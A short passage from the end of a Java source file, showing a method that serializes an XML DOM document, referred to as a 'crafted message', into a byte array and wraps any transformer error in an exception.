        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try {
            TransformerFactory.newInstance().newTransformer().transform(new DOMSource(doc), new StreamResult(out));
        } catch (TransformerException e) {
            throw new IllegalStateException("serializing the crafted message: " + e.getMessage(), e);
        }
        return out.toByteArray();
    }
}
